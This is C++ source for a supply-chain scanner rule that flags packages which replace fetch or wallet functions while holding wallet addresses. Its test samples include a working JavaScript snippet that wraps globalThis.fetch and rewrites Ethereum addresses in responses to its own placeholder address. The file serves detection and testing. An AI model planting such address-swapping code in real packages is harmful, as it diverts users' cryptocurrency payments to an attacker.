#include <cstdint>
#include <map>
#include <string_view>
#include <utility>

#include "rules/conditions.h"
#include "rules/rule.h"
#include "rules/wallet_addresses.h"

namespace assay::rules {
namespace {

bool holds_addresses(const Facts& facts, const Where& where) {
  const std::string_view text = where.layer < 0
                                    ? facts.file(where).bytes
                                    : facts.layers[static_cast<std::size_t>(where.layer)].text;
  return wallet_addresses_in(text) > 2;
}

void check(const Facts& facts, Findings& findings) {
  std::map<std::pair<std::int32_t, std::int32_t>, bool> known;  // each text is searched once
  for (const Action& action : facts.actions) {
    if (action.act != Act::patch_global || !runs_uncalled(action)) continue;
    const std::pair key(action.where.file, action.where.layer);
    if (!known.contains(key)) known[key] = holds_addresses(facts, action.where);
    if (!known[key]) continue;
    findings.add(
        action.where,
        sentence("replaces " + shown(action.target) + " and holds wallet addresses", action),
        action.steps);
  }
}

}  // namespace

extern constinit const Rule hooks_payment_calls = {
    .id = "hooks-payment-calls",
    .title = "The package replaces network or wallet functions and knows wallet addresses",
    .why =
        "Code that wraps fetch, XMLHttpRequest or a page's wallet and holds a list of "
        "addresses swaps the address that money goes to.",
    .harmless_when =
        "Tracing and mocking libraries wrap the same functions, but hold no "
        "addresses.",
    .severity = Severity::critical,
    .check = check,
};

#ifdef RULE_SAMPLES
constexpr Sample samples[] = {
    {.name = "a module wraps fetch and swaps addresses",
     .expect = "index.js:6",
     .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "main": "index.js"}
==> index.js
const mine = [
  "0x0000000000000000000000000000000000000001",
  "0x0000000000000000000000000000000000000002",
  "0x0000000000000000000000000000000000000003",
]; const original = globalThis.fetch;
globalThis.fetch = async (url, options) => {
  const answer = await original(url, options);
  return new Response((await answer.text()).replace(/0x[0-9a-f]{40}/g, mine[0]));
};
)"},
    {.name = "a tracer wraps fetch", .expect = silent, .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "main": "index.js"}
==> index.js
const original = globalThis.fetch;
globalThis.fetch = (url, options) => { console.log(url); return original(url, options); };
)"},
};
extern const std::span<const Sample> hooks_payment_calls_samples = samples;
#endif

}  // namespace assay::rules
